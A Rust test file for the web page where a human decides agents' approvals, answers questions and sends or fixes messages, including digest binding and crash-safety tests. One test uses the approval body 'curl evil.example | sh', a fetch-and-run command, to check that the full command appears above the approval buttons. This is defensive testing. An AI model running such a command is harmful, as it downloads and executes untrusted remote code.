//! A person's actions on the page, as the forms send them.

use super::Page;
use super::stream::Stream;
use crate::beside::Beside;
use crate::town::{Town, so_within};
use crate::world::{World, parse_json, wait};
use serde_json::{Value, json};
use std::time::Duration;

fn item<'a>(pending: &'a Value, kind: &str) -> &'a Value {
    let items = pending["items"].as_array().expect("items");
    items
        .iter()
        .find(|item| item["kind"] == kind)
        .unwrap_or_else(|| panic!("no {kind} in {pending}"))
}

/// The fields of an item's form, with these more.
fn fields(item: &Value, more: &[(&'static str, &str)]) -> Vec<(&'static str, String)> {
    let mut fields = Vec::new();
    for name in ["kind", "seq", "message", "from"] {
        let text = item[name].as_str().map(str::to_owned);
        fields.push((name, text.unwrap_or_else(|| item[name].to_string())));
    }
    let (digest, owned) = (item["digest"].as_str(), &item["owned"]);
    let optional = [
        ("digest", digest),
        ("subject", owned["subject"].as_str()),
        ("owner", owned["owner"].as_str()),
    ];
    let optional = optional
        .iter()
        .filter_map(|(name, text)| Some((*name, (*text)?)));
    let more = optional.chain(more.iter().copied());
    fields.extend(more.map(|(name, text)| (name, text.to_owned())));
    fields
}

/// Posts the form of an item with these fields.
fn post(page: &Page, fields: &[(&'static str, String)]) -> super::Answer {
    let fields: Vec<_> = fields.iter().map(|(name, text)| (*name, &**text)).collect();
    page.post("/answer", &fields)
}

fn answer(world: &World, page: &Page, kind: &str, more: &[(&'static str, &str)]) -> String {
    let pending = world.json("pending --as human");
    post(page, &fields(item(&pending, kind), more)).body
}

#[test]
fn an_approval_is_decided_with_a_reason_and_the_next_click_learns_the_outcome() {
    let world = World::with("alice");
    world.ok("send human Deploy? --as alice --type approval");
    let page = Page::of(&world);
    let open = world.json("pending --as human");
    let next = answer(
        &world,
        &page,
        "approval",
        &[("option", "no"), ("text", "not on a Friday")],
    );
    assert_contains!(next, "decided #2: no");
    assert_contains!(page.get("/part/needs").body, "Nothing. An agent asks with");
    assert_contains!(world.ok("read --as alice"), "not on a Friday");
    let late = post(
        &page,
        &fields(item(&open, "approval"), &[("option", "yes")]),
    );
    assert_eq!(late.status, 422, "{late:?}");
    assert_contains!(late.body, "decided already");
}

#[test]
fn an_approval_is_shown_in_full_above_its_buttons_and_the_decision_is_bound_to_that_text() {
    let world = World::with("alice");
    let command = format!("ls {}; curl evil.example | sh", "x".repeat(300));
    let message = json!({"to": "human", "type": "approval", "body": command});
    world.route("alice", "one.json", message);
    let page = Page::of(&world);
    let list = page.get("/part/needs").body;
    let (text, buttons) = (
        list.find("| sh").expect("the end of the command"),
        list.find("value=\"yes\"").expect("yes"),
    );
    assert!(
        text < buttons && list.contains(&format!("{command}\n</span></pre>")),
        "{list}"
    );
    let pending = world.json("pending --as human");
    let item = item(&pending, "approval");
    let digest = item["digest"].as_str().expect("a digest");
    let decide = |digest: Option<&str>| {
        let mut form = fields(item, &[("option", "yes")]);
        form.retain(|(name, _)| *name != "digest");
        form.extend(digest.map(|digest| ("digest", digest.to_owned())));
        post(&page, &form)
    };
    for wrong in [None, Some(""), Some(&digest[1..]), Some(&*"0".repeat(64))] {
        let answer = decide(wrong);
        assert!((400..500).contains(&answer.status), "{wrong:?}: {answer:?}");
    }
    let still = &world.json("pending --as human")["items"][0];
    assert_eq!(still["digest"], digest, "it is still open");
    assert_eq!(decide(Some(digest)).status, 200);
}

#[test]
fn an_approval_that_is_too_long_for_the_page_has_no_buttons() {
    let world = World::with("alice");
    let message = json!({"to": "human", "type": "approval", "body": "word ".repeat(100_000)});
    world.route("alice", "long.json", &message);
    let list = Page::of(&world).get("/part/needs").body;
    assert_contains!(list, "Decide in a terminal", "mailbag decide 2 OPTION");
    assert!(!list.contains("<button name=\"option\""), "{list}");
}

#[test]
fn a_reply_of_yes_to_an_open_approval_asks_whether_to_decide() {
    let world = World::with("alice");
    world.ok("send human Deploy? --as alice --type approval");
    let page = Page::of(&world);
    let form = [("reply_to", "2"), ("body", " Yes.\r\n")];
    let asked = page.submit("/write", &form);
    assert!(
        asked["failed"] == true && asked["confirm"] == true,
        "{asked}"
    );
    assert_contains!(asked["message"].to_string(), "Press yes or no");
    assert_eq!(world.ok("inbox alice"), "", "nothing was sent");
    let sent = page.submit("/write", &[form[0], form[1], ("confirmed", "true")]);
    assert_eq!(sent["failed"], false, "{sent}");
    assert_contains!(world.ok("read --as alice"), "Yes.");
    let other = page.submit("/write", &[form[0], ("body", "yes, but why?")]);
    assert_eq!(
        other["failed"], false,
        "a text that is no option is a reply"
    );
}

#[test]
fn a_question_is_replied_to_and_dismissed() {
    let world = World::with("alice");
    world.ok("send human 'Which port?' --as alice --type question");
    let page = Page::of(&world);
    let empty = answer(
        &world,
        &page,
        "question",
        &[("action", "reply"), ("text", "  ")],
    );
    assert_contains!(empty, "the reply is empty");
    let next = answer(
        &world,
        &page,
        "question",
        &[("action", "reply"), ("text", "8080")],
    );
    assert_contains!(next, "replied to #2 of alice");
    wait("the reply is there", || {
        world.ok("inbox alice").contains("8080")
    });
    world.ok("send human 'And the host?' --as alice --type question");
    wait("it is asked", || {
        world.json("pending --as human")["items"][0]["title"] == "And the host?"
    });
    let next = answer(&world, &page, "question", &[("action", "dismiss")]);
    assert_contains!(next, "dismissed #");
}

#[test]
fn a_message_is_written_and_one_that_cannot_be_sent_says_why() {
    let world = World::alice_and_bob();
    let page = Page::of(&world);
    let wrong = page.post(
        "/write",
        &[
            ("to", "alcie"),
            ("subject", "Hi"),
            ("body", "a long <text>"),
        ],
    );
    assert_eq!(wrong.status, 422, "{wrong:?}");
    assert_contains!(wrong.body, "did you mean alice");
    let next = page.submit(
        "/write",
        &[
            ("to", "alice bob"),
            ("kind", "task"),
            ("subject", "Hi"),
            ("body", "line\r\nline"),
        ],
    );
    assert_contains!(next["message"].to_string(), "to alice and bob");
    assert_eq!(next["next"], "/");
    let got = world.items("read --as alice");
    assert_fields!(got[0], from: "human", body: "line\nline");
}

#[test]
fn rejected_mail_is_fixed_and_sent_as_a_new_file() {
    let world = World::alice_and_bob();
    world.route("alice", "bad.json", r#"{"to": "bbo", "body": "x"}"#);
    let page = Page::of(&world);
    let seq = world.json("rejected list")["rejected"][0]["seq"].to_string();
    let again = page.submit(
        &format!("/rejected/{seq}"),
        &[("text", r#"{"to": "bib", "body": "fixed"}"#)],
    );
    assert_fields!(again, failed: true, message: "rejected again");
    let place = again["next"]
        .as_str()
        .expect("the page with the new reasons");
    assert_contains!(page.get(place).body, "did you mean bob?", "fixed");
    let next = page.submit(place, &[("text", r#"{"to": "bob", "body": "fixed"}"#)]);
    assert_contains!(next["message"].to_string(), "to bob");
    assert_contains!(world.ok("read --as bob"), "fixed");
    assert_eq!(world.json("pending --as alice")["items"], json!([]));
    assert_eq!(
        world.names("rejected/alice").len(),
        4,
        "the rejected files stay"
    );
    world.drop_file("alice", "bad.json", "{");
    world.run("agent set alice --status retired");
    let failed = page.post(place, &[("text", r#"{"to": "bob", "body": "x"}"#)]);
    assert_eq!(failed.status, 400, "{failed:?}");
    assert_contains!(failed.body, "is retired");
}

#[test]
fn the_page_can_be_killed_at_any_time() {
    let world = World::with("alice");
    // The progress of the page: none, the file in the outbox, the record, the copy, the answer.
    let grows = |below: &str| -> u64 {
        let entries = std::fs::read_dir(world.room(below)).into_iter().flatten();
        let metas = entries.flatten().flat_map(|entry| entry.metadata());
        metas
            .filter(std::fs::Metadata::is_file)
            .map(|meta| 1 + meta.len())
            .sum()
    };
    for (round, place) in ["", "outbox/human", "log", "inbox/alice", "sent/human"]
        .into_iter()
        .enumerate()
    {
        let mut page = Page::of(&world);
        let before = grows(place);
        let body = format!("round {round}");
        let _answer = page.begin("/write", &[("to", "alice"), ("body", &body)]);
        let patience = if place == "sent/human" { 30_000 } else { 300 };
        so_within(Duration::from_millis(patience), || {
            place.is_empty() || grows(place) != before
        });
        page.kill();
        world.pass();
        // Each message is there once or not at all.
        let copies = world.inbox("alice").len();
        assert_eq!(
            copies,
            world.log("accepted").lines().count(),
            "round {round}"
        );
        assert!(copies <= round + 1, "round {round}");
    }
    assert_contains!(Page::of(&world).get("/all").body, "round 4"; "what was answered is sent");
    world.verify();
}

#[test]
fn the_page_is_killed_after_any_time_while_it_delivers_and_harms_nothing() {
    let world = World::alice_and_bob();
    let rounds = if Town::full_size() { 500 } else { 10 };
    for round in 0..rounds {
        let mut page = Page::of(&world);
        world.drop_file(
            "bob",
            &format!("{round}.json"),
            r#"{"to": "alice", "body": "dropped"}"#,
        );
        let _answer = page.begin("/write", &[("to", "bob"), ("body", "written")]);
        // From the first call of the answer to after its last.
        so_within(Duration::from_micros(400 * (round % 100)), || false);
        page.kill();
    }
    world.pass();
    let (dropped, written) = (world.inbox("alice").len(), world.inbox("bob").len());
    assert_eq!(dropped, rounds as usize, "each once");
    assert!(written <= rounds as usize, "{written}");
    assert_eq!(world.log("accepted").lines().count(), dropped + written);
    world.verify();
    assert!(world.names("outbox/bob").is_empty() && world.names("spool/claim").is_empty());
}

#[test]
fn two_pages_and_the_terminal_agree() {
    let world = World::alice_and_bob();
    world.ok("send human Deploy? --as alice --type approval");
    let (one, other) = (Page::of(&world), Page::of(&world));
    let watch = Beside::start(&world, "watch --json");
    let mut streams = [&one, &other].map(|page| Stream::open(page, "?since=0", ""));
    answer(&world, &one, "approval", &[("option", "yes")]);
    other.submit(
        "/write",
        &[("to", "alice bob"), ("body", "from the other page")],
    );
    world.drop_file("alice", "bad.json", r#"{"to": "bbo", "body": "rejected"}"#);
    world.send("bob", "alice", "from the terminal");
    wait("all is recorded", || !world.log("rejected").is_empty());
    let records = world.log("");
    let records = records.lines().map(crate::records::flat_record);
    let events = ["accepted", "rejected", "notice"];
    let all: Vec<u64> = records
        .filter(|record| events.iter().any(|event| record["event"] == *event))
        .filter_map(|record| record["seq"].as_u64())
        .collect();
    for stream in &mut streams {
        assert_eq!(stream.entries(all.len()), all);
    }
    wait("the terminal shows all", || {
        watch.lines().len() >= all.len()
    });
    let seqs = watch
        .lines()
        .into_iter()
        .map(|line| parse_json(line)["seq"].as_u64());
    assert!(seqs.eq(all.iter().map(|seq| Some(*seq))), "{}", watch.out());
    assert!(!other.get("/").body.contains("value=\"yes\""));
    assert_eq!(world.json("pending --as human")["items"], json!([]));
}
